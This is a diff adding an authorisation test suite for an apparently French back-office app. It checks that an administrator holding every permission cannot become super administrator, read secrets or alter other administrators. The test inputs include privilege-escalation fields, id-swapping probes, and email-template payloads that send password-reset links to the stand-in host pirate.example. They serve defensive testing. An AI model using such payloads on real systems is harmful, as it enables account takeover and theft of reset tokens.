@@ -1,0 +1,279 @@
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { holdsPermission, permissions, type Permission } from '@app/contract/accounts/permissions.ts';
+import type { EndpointDefinition } from '@app/contract/endpoint.ts';
+import { settingDefinitions, settingKeys } from '@app/contract/site/settings.ts';
+import { linkToken, type Principal } from '@app/domain/accounts';
+import { DomainError } from '@app/domain/platform';
+import {
+  buildAdministrator,
+  buildLink,
+  buildSecondFactor,
+  createTestPlatform,
+  readRows,
+  type BuiltAccount,
+  type TestPlatform,
+} from '@app/domain/testing';
+import { authorise } from '../http/authorise.ts';
+import type { ApiClient } from '../testing/startApi.ts';
+import { roleFor, unsafe, walked, type WalkedEndpoint } from './testing/contractWalk.ts';
+import { openTarget, type Target } from './testing/openTarget.ts';
+import { validRequest, type JsonObject } from './testing/validRequest.ts';
+
+/** What would make somebody a super administrator, or open what only they may. */
+const coveted: JsonObject = {
+  role: 'super_admin',
+  kind: 'administrator',
+  permissions: [...permissions],
+  active: true,
+  isSuperAdmin: true,
+  twoFactorRequired: false,
+  admin_two_factor_required: 'false',
+  smtp_host: 'mail.pirate.example',
+  smtp_password: 'pirate-password',
+  host: 'mail.pirate.example',
+  port: 25,
+  username: 'pirate',
+  enabled: true,
+  encryption: 'none',
+  stripe_secret_key: 'sk_test_pirate',
+  stripe_webhook_secret: 'whsec_pirate',
+  secretKey: 'sk_test_pirate',
+  webhookSecret: 'whsec_pirate',
+};
+
+/** Settings that nobody but a super administrator changes: secrets, the mail server, Stripe, what guards administrators. */
+const guardedSettings = settingKeys.filter(
+  (key) =>
+    settingDefinitions[key].visibility === 'secret' || /^(?:smtp_|stripe_|email_enabled$|admin_two_factor)/.test(key),
+);
+
+describe('an agent who holds every permission', () => {
+  let target: Target;
+  let attacker: BuiltAccount;
+  let colleague: BuiltAccount;
+  let chief: BuiltAccount;
+  let browser: ApiClient;
+  /** What opens something: none of it may stand in an answer. */
+  const secrets = new Map<string, string>();
+  beforeAll(async () => {
+    target = await openTarget();
+    const { platform, signedIn } = target.api;
+    attacker = target.accounts.agent;
+    chief = await buildAdministrator(platform, { role: 'super_admin' });
+    colleague = await buildAdministrator(platform, { permissions });
+    await signedIn(chief);
+    await signedIn(colleague);
+    for (const { id, email } of [chief, colleague]) {
+      secrets.set(
+        `reset link of ${email}`,
+        await buildLink(platform, { purpose: 'password_reset', email, accountId: null }),
+      );
+      secrets.set(`second factor of ${email}`, await buildSecondFactor(platform, { id, email }, 'active'));
+    }
+    await platform.settings.save(
+      { smtp_password: 'mot-de-passe-du-serveur', admin_two_factor_required: 'false' },
+      { at: platform.clock.now(), by: null },
+    );
+    secrets.set('mail server', 'mot-de-passe-du-serveur');
+    secrets.set('Stripe', target.world.stripe.secretKey);
+    secrets.set('webhook', target.world.stripe.webhookSecret);
+    secrets.set('password hashes', '$argon2');
+  });
+  afterAll(async () => target.stop());
+
+  /** Everything that makes administrators what they are, the attacker's own password and sessions apart. */
+  async function powers(): Promise<string[]> {
+    const lines = await readRows<{ line: string }>(
+      target.api.platform,
+      `select 'administrator ' || adm::text as line from administrator adm
+       union all select 'account ' || (a.id, a.kind, a.email, a.first_name, a.last_name, a.password_hash, a.closed_at)::text
+         from account a where a.kind = 'administrator' and a.id <> $1
+       union all select 'own ' || (a.id, a.kind, a.email)::text from account a where a.id = $1
+       union all select 'factor ' || f::text from second_factor f where f.account_id <> $1
+         and f.account_id in (select account_id from administrator)
+       union all select 'code ' || r::text from recovery_code r where r.account_id <> $1
+       union all select 'session ' || (s.id_hash, s.account_id, s.expires_at)::text from session s
+         where s.account_id <> $1 and s.account_id in (select account_id from administrator)
+       union all select 'setting ' || (s.key, s.value)::text from setting s where s.key = any ($2)`,
+      [attacker.id, guardedSettings],
+    );
+    return lines.map(({ line }) => line).toSorted();
+  }
+
+  async function secretsNow(): Promise<Map<string, string>> {
+    const { platform } = target.api;
+    const links = await readRows<{ id: string; purpose: 'password_reset'; email: string }>(
+      platform,
+      `select l.id, l.purpose, l.email from account_link l join account a on a.email = l.email
+       where a.kind = 'administrator' and l.purpose = 'password_reset'`,
+    );
+    const tokens = links.map(({ id, purpose, email }): [string, string] => [
+      `reset link of ${email}`,
+      linkToken(platform.keys, purpose, id),
+    ]);
+    return new Map([...secrets, ...tokens]);
+  }
+
+  async function expectNothingTold(answer: { body: unknown }): Promise<void> {
+    const text = JSON.stringify(answer.body);
+    for (const [what, secret] of await secretsNow()) expect(text, what).not.toContain(secret);
+  }
+
+  /** The same request about every administrator, in each place of its address where an id goes. */
+  function aimed(path: string): string[] {
+    const ids = [chief.id, colleague.id, attacker.id];
+    const uuid = /[\da-f]{8}-[\da-f]{4}-[\da-f]{4}-[\da-f]{4}-[\da-f]{12}/g;
+    return [path, ...(uuid.test(path) ? ids.map((id) => path.replaceAll(uuid, id)) : [])];
+  }
+
+  /** A body that covets: over what is valid, alone, and with somebody else's id and address wherever one goes. */
+  function hostile(body: JsonObject | undefined): (JsonObject | undefined)[] {
+    if (!body) return [undefined, coveted];
+    const theirs = Object.fromEntries(
+      Object.entries(body).map(([name, value]) => {
+        if (/id$|assignedTo|administrator|account/i.test(name)) return [name, chief.id];
+        if (/email|^to$/i.test(name)) return [name, chief.email];
+        return [name, value];
+      }),
+    );
+    const named = { id: chief.id, accountId: chief.id, administratorId: chief.id, user_id: chief.id };
+    return [{ ...body, ...coveted }, coveted, { ...coveted, ...named, ...theirs }];
+  }
+
+  it.each(unsafe)('is no more, learns nothing and changes no administrator by $name', async (endpoint) => {
+    const request = await validRequest(endpoint, target.world);
+    const before = await powers();
+    browser = await target.browserOf('agent');
+    for (const path of aimed(request.path)) {
+      for (const body of hostile(request.body)) {
+        const answer = await browser.call(path, { method: endpoint.method, ...(body && { body }) });
+        expect(answer.status).toBeLessThan(500);
+        await expectNothingTold(answer);
+        // What it did may have signed them out.
+        if ((await browser.call('/api/session')).status !== 200) browser = await target.browserOf('agent');
+      }
+    }
+    expect(await powers()).toStrictEqual(before);
+    const session = (await (await target.browserOf('agent')).call('/api/session')).body;
+    expect(session).toMatchObject({ account: { id: attacker.id, role: 'admin' } });
+  });
+
+  it.each(walked.filter(({ method }) => method === 'GET'))('learns no secret from $name', async (endpoint) => {
+    const { path } = await validRequest(endpoint, target.world);
+    browser = await target.browserOf('agent');
+    for (const one of aimed(path)) await expectNothingTold(await browser.call(one));
+  });
+
+  it('is refused everything that is for super administrators, before the body is looked at', async () => {
+    browser = await target.browserOf('agent');
+    const reserved = walked.filter(({ access }) => access.kind === 'super_admin');
+    expect(reserved.length).toBeGreaterThan(8);
+    for (const endpoint of reserved) {
+      const { path } = await validRequest(endpoint, target.world);
+      const answer = await browser.call(path, {
+        method: endpoint.method,
+        ...(endpoint.method !== 'GET' && { body: '[' }),
+      });
+      expect([endpoint.name, answer.status]).toStrictEqual([endpoint.name, 403]);
+    }
+  });
+
+  it('finds nobody of the back-office among the customers', async () => {
+    browser = await target.browserOf('agent');
+    for (const endpoint of walked.filter(({ path }) => path.startsWith('/api/admin/users/:id'))) {
+      const { body } = await validRequest(endpoint, target.world);
+      for (const { id } of [chief, colleague, attacker]) {
+        const answer = await browser.call(endpoint.path.replace(':id', id), {
+          method: endpoint.method,
+          ...(body && { body }),
+        });
+        expect([endpoint.name, answer.status]).toStrictEqual([endpoint.name, 404]);
+      }
+    }
+  });
+
+  it('sends no link that opens an account to an address of their own', async () => {
+    browser = await target.browserOf('agent');
+    const path = '/api/admin/email/templates/password_reset';
+    for (const content of [
+      '<p><a class="button" href="https://pirate.example/?t={{reset_url}}">Choisir</a></p>',
+      '<p><img src="https://pirate.example/{{reset_url}}"></p>',
+      '<p style="background:url(https://pirate.example/{{reset_url}})">Choisir</p>',
+      '<p><a href="{{reset_url}}.pirate.example">Choisir</a></p>',
+      '<p><a href="mailto:pirate@pirate.example?body={{reset_url}}">Choisir</a></p>',
+    ]) {
+      const answer = await browser.call(path, { method: 'PUT', body: { subject: 'Mot de passe', content } });
+      // Refused, or saved without what leads away.
+      expect([200, 422]).toContain(answer.status);
+      const [sent] = await readRows<{ mail: string }>(
+        target.api.platform,
+        `select compiled_html || compiled_text || subject as mail from mail_template where key = 'password_reset'`,
+      );
+      expect(sent?.mail).toMatch(/<html/);
+      expect(sent?.mail).not.toContain('pirate');
+    }
+  });
+});
+
+describe('the right to an endpoint', () => {
+  const everything = fc.record({
+    kind: fc.constantFrom('customer' as const, 'agent' as const, 'super_admin' as const),
+    held: fc.uniqueArray(fc.constantFrom<Permission>(...permissions)),
+    endpoint: fc.constantFrom<WalkedEndpoint>(...walked),
+  });
+  let platform: TestPlatform;
+  beforeAll(async () => {
+    platform = await createTestPlatform();
+  });
+  afterAll(async () => platform.close());
+
+  function principalOf(kind: 'customer' | 'agent' | 'super_admin', held: readonly Permission[]): Principal {
+    return {
+      accountId: '00000000-0000-4000-8000-0000000000b1',
+      kind: kind === 'customer' ? 'customer' : 'administrator',
+      role: kind === 'agent' ? 'admin' : kind,
+      permissions: held,
+      email: 'x@clairvolet.test',
+      firstName: 'X',
+      lastName: 'Y',
+      emailConfirmed: true,
+      hasSecondFactor: true,
+      debugMode: false,
+      sessionId: '00000000-0000-4000-8000-0000000000b2',
+      provedAt: platform.clock.now(),
+    };
+  }
+
+  function isLetIn(endpoint: EndpointDefinition, principal: Principal): boolean {
+    try {
+      authorise(endpoint, principal, platform);
+      return true;
+    } catch (error) {
+      if (error instanceof DomainError && error.code === 'forbidden') return false;
+      throw error;
+    }
+  }
+
+  it('is exactly what the role and the permissions say', () => {
+    const property = fc.property(everything, ({ kind, held, endpoint }) => {
+      const principal = principalOf(kind, held);
+      const { access } = endpoint;
+      const isLet = isLetIn(endpoint, principal);
+      if (access.kind === 'permission') {
+        expect(isLet).toBe(holdsPermission(principal, access.permission));
+        expect(isLet).toBe(kind === 'super_admin' || (kind === 'agent' && held.includes(access.permission)));
+      }
+      if (access.kind === 'super_admin') expect(isLet).toBe(kind === 'super_admin');
+      if (access.kind === 'administrator') expect(isLet).toBe(kind !== 'customer');
+      if (access.kind === 'customer') expect(isLet).toBe(kind === 'customer');
+    });
+    fc.assert(property, { numRuns: 3_000 });
+  });
+
+  it('is never given by a permission to what is for super administrators', () => {
+    const all = principalOf('agent', permissions);
+    const reserved = walked.filter(({ access }) => roleFor(access) === 'superAdmin');
+    expect(reserved.filter((endpoint) => isLetIn(endpoint, all))).toStrictEqual([]);
+  });
+});
